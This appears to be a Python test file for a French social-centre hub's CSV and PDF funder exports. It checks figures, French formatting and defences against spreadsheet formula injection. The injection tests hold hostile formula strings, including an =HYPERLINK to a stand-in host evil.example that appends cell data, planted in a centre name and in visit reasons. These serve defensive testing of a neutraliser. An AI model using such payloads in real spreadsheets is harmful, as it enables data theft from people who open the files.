"""Funders' files read back the way their readers read them: CSV as a French
Excel does (UTF-8 with BOM, ';'), the PDF's text through pypdf."""

from __future__ import annotations

import csv
import io

import pypdf
import pytest

from federation import exports, projections, reports, store
from sync import csvsafe
from tests import hub_sample as sample
from tests.hub_sample import NOW, A


@pytest.fixture
def engine(tmp_path):
    _url, engine = sample.make_db(tmp_path / "hub.db")
    yield engine
    engine.dispose()


def view_of(engine, centre_id=None) -> reports.Overview:
    with engine.connect() as conn:
        return reports.overview(conn, reports.Period(*sample.MARCH, centre_id=centre_id), NOW)


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def indicators(rows: list[list[str]]) -> dict[tuple[str, str], str]:
    return {(row[3], row[4]): row[5] for row in rows[1:]}


def test_indicators_csv_is_excel_french(engine):
    data = exports.indicators_csv(view_of(engine), None)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8 accents right
    rows = read_csv(data)
    assert rows[0] == exports.INDICATOR_HEADER
    assert all(len(row) == 6 for row in rows)
    assert {tuple(row[:3]) for row in rows[1:]} == {("01/03/2026", "31/03/2026", "Tous les centres")}
    assert b"\r\n" in data


def test_indicators_carry_the_funders_figures(engine):
    values = indicators(read_csv(exports.indicators_csv(view_of(engine), None)))
    assert values[("Participants", "Participants (adhérents distincts venus)")] == "5"
    assert values[("Participants par sexe", "Femmes")] == "2"
    assert values[("Participants par tranche d'âge", "65 ans et plus")] == "1"
    assert values[("Participants par sexe et tranche d'âge", "Hommes, 55 à 64 ans")] == "1"
    assert values[("Quartiers prioritaires (QPV)", "Participants habitant un QPV")] == "2"
    assert values[("Quartiers prioritaires (QPV)", "Part des habitants des QPV (%)")] == "50,0"
    assert values[("Adhérents", "Nouveaux adhérents")] == "3"
    assert values[("Ateliers", "Séances tenues")] == "2"
    assert values[("Ateliers", "Présents")] == "4"
    # (4 present - 1 walk-in) / 4 booked, with a decimal comma
    assert values[("Ateliers", "Taux de présence des inscrits (%)")] == "75,0"
    assert values[("Ateliers par thème", "Numérique : Taux de présence des inscrits (%)")] == "66,7"
    assert values[("Passages par motif", "Démarches administratives")] == "3"
    assert values[("Passages par motif", "jardinage")] == "1"  # unknown code shown as it is
    assert values[("Passages", "Total des passages")] == "15"


def test_one_centre_export_names_it_and_keeps_its_figures(engine):
    name = sample.CENTRE_NAMES[A]
    rows = read_csv(exports.indicators_csv(view_of(engine, A), name))
    assert {row[2] for row in rows[1:]} == {name}
    values = indicators(rows)
    assert values[("Passages", "Total des passages")] == "10"
    assert values[("Participants", "Participants (adhérents distincts venus)")] == "3"


def test_visits_per_week_csv_has_french_dates(engine):
    rows = read_csv(exports.visits_per_week_csv(view_of(engine), None))
    assert rows == [
        ["Semaine du", "Centre", "Passages"],
        ["23/02/2026", "Tous les centres", "0"],
        ["02/03/2026", "Tous les centres", "8"],
        ["09/03/2026", "Tous les centres", "6"],
        ["16/03/2026", "Tous les centres", "0"],
        ["23/03/2026", "Tous les centres", "0"],
        ["30/03/2026", "Tous les centres", "1"],
    ]


def pdf_text(data: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_pdf_report_holds_the_indicators_in_french(engine):
    data = exports.report_pdf(view_of(engine, A), sample.CENTRE_NAMES[A])
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    assert "Rapport d'activité" in text
    assert "Centre social Les Tilleuls — du 1er mars 2026 au 31 mars 2026" in text
    assert "Démarches administratives 3" in text
    assert "Participants (adhérents distincts venus) 3" in text
    assert "Taux de présence des inscrits (%) 66,7" in text
    assert "Nouveaux adhérents 2" in text


def test_pdf_report_of_an_empty_period_still_renders(engine):
    with engine.connect() as conn:
        view = reports.overview(conn, reports.parse_period("2020-01-01", "2020-01-31"), NOW)
    text = pdf_text(exports.report_pdf(view, None))
    assert "Tous les centres" in text and "Total des passages 0" in text


# ---------------------------------------------------------------- formula injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+SUM(1;2)",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(engine):
    """A centre whose name is a formula, and a device's reasons that are formulas too
    (a reason is whatever text a device sent)."""
    with engine.begin() as conn:
        conn.execute(
            store.centres.update()
            .where(store.centres.c.id == A)
            .values(name='=HYPERLINK("http://evil.example";"Tilleuls")')
        )
        conn.execute(
            store.p_visit_counts.insert(),
            [
                dict(centre_id=A, day="2026-03-03", reason=reason, recorded_by="resident", visits=1)
                for reason in HOSTILE
            ],
        )
        projections.refresh_rollups(conn)  # as ingest keeps them
    with engine.connect() as conn:
        return reports.centre_names(conn)[A]


def test_no_csv_cell_can_start_a_formula(engine, hostile):
    view = view_of(engine, A)
    for data in (exports.indicators_csv(view, hostile), exports.visits_per_week_csv(view, hostile)):
        rows = read_csv(data)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in csvsafe.FORMULA_STARTS]
        assert "'" + hostile in cells  # the text is kept, shown as text
    reasons = {
        row[4] for row in read_csv(exports.indicators_csv(view, hostile)) if row[3] == "Passages par motif"
    }
    assert reasons >= {"'" + reason for reason in HOSTILE}


def test_hub_and_kiosk_share_one_neutraliser():
    from kiosk.core import exports as kiosk_exports

    assert kiosk_exports.csvsafe is csvsafe and exports.csvsafe is csvsafe
    assert csvsafe.row(["=1+1", "-2", "@x", "\tx", "ok", 3, -2, None]) == [
        "'=1+1",
        "'-2",
        "'@x",
        "'\tx",
        "ok",
        3,
        -2,
        "",
    ]
